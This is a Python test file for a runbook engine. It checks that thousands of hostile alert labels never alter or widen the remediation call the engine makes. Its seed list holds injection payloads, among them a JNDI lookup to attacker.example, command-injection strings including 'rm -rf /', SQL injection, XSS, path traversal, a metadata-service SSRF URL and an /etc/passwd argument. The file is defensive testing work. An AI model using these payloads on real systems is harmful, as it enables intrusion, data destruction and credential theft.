"""What an alert says is never code and never widens a target: thousands of hostile labels change no call."""

from __future__ import annotations

import json
import random
from datetime import timedelta
from pathlib import Path

import pytest

from runbook_engine.engine import Engine
from runbook_engine.model.directive import Next
from runbook_engine.testing.memory_journal import MemoryJournal
from runbook_engine.testing.simulated_world import SimulatedWorld
from tests.lab import bundle_in, post, simulated_engine

MANY = 10_000
SEEDS = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ inputs.part }}",
    "{% for x in range(10**9) %}{% endfor %}",
    "${jndi:ldap://attacker.example/x}",
    "$(touch /tmp/owned)",
    "`id`; rm -rf / #",
    "../../../checkout/degraded_mode",
    "all/../../prod/everything",
    "*",
    ".*",
    "ALL",
    "all\n/prod/key",
    "all\x00",
    "all ",
    "a/b",
    "\u0430ll",
    "ａｌｌ",
    "\u202ella",
    '"} or vector(1) #',
    "<script>alert(1)</script>",
    "<!channel> <@U1>",
    "'; DROP TABLE executions; --",
    "http://169.254.169.254/latest/meta-data/",
    "arn:aws:lambda:eu-west-1:1:function:*",
    "-rf",
    "--kubeconfig=/etc/passwd",
    "x" * 300,
)
PIECES = tuple("ab/.*{}[]()<>\"'`$;|&\\\n\t\x00%#: -_\u202e\ud7ffА")


def hostile(number: int) -> list[str]:
    """Return so many values: the known attacks first, then random ones of their pieces."""
    chance = random.Random(7)
    made = ["".join(chance.choices(PIECES, k=chance.randint(1, 24))) for _ in range(number - len(SEEDS))]
    return [*SEEDS, *made]


def lab(folder: Path) -> tuple[SimulatedWorld, Engine]:
    """A runbook that flips /lab/<part>, in a world where only /lab/all is worth a call."""
    simulated = SimulatedWorld()
    simulated.set_parameter("/lab/all", "false")
    return simulated, simulated_engine(bundle_in(folder), simulated, journal=MemoryJournal())


def calls_after(simulated: SimulatedWorld, engine: Engine, alerts: list[dict[str, object]]) -> set[tuple[object, ...]]:
    """Deliver the alerts, let everything run, and return what was called."""
    for begin in range(0, len(alerts), 500):
        post(engine, json.dumps({"alerts": alerts[begin : begin + 500]}).encode())
    for execution_id in engine.due(simulated.clock.now(), len(alerts)):
        while isinstance(engine.drive(execution_id, "w", simulated.clock.now(), timedelta(minutes=1)), Next):
            simulated.push(timedelta(milliseconds=1))
    return {(touch.method, touch.target, touch.value) for touch in simulated.effects_made}


def firing(labels: dict[str, str], **more: object) -> dict[str, object]:
    """A firing alert for the lab's runbook."""
    return {"status": "firing", "labels": {"alertname": "Hot", **labels}, **more}


def test_calls_are_the_same_when_every_other_label_and_annotation_is_hostile(tmp_path: Path) -> None:
    """One harmless alert and thousands of hostile ones ask for one and the same change."""
    simulated, engine = lab(tmp_path)
    plain = calls_after(simulated, engine, [firing({})])
    (tmp_path / "again").mkdir()
    simulated, engine = lab(tmp_path / "again")

    alerts = [
        firing({"service": value, f"label_{index}": value}, annotations={"summary": value, "runbook_url": value})
        for index, value in enumerate(hostile(MANY // 4))
    ]

    assert plain
    assert plain == calls_after(simulated, engine, alerts)


def test_nothing_is_called_when_the_label_that_names_the_target_is_hostile(tmp_path: Path) -> None:
    """A value that is no name of the input's type is refused; none is repaired, cut or taken for another one."""
    simulated, engine = lab(tmp_path)

    made = calls_after(simulated, engine, [firing({"part": value}) for value in hostile(MANY) if not _is_a_name(value)])

    assert set() == made


def _is_a_name(value: str) -> bool:
    """Whether a value happens to be an honest name: those random ones are nobody's attack."""
    return value.isascii() and value.replace("-", "").isalnum() and value == value.lower() and value[:1] != "-"


@pytest.mark.parametrize("part", ["all", "a-1"])
def test_honest_names_still_name_a_target(tmp_path: Path, part: str) -> None:
    """The refusals above are not refusals of everything."""
    simulated, engine = lab(tmp_path)
    simulated.set_parameter("/lab/a-1", "false")

    assert {("flags.write", f"/lab/{part}", "true")} == calls_after(simulated, engine, [firing({"part": part})])
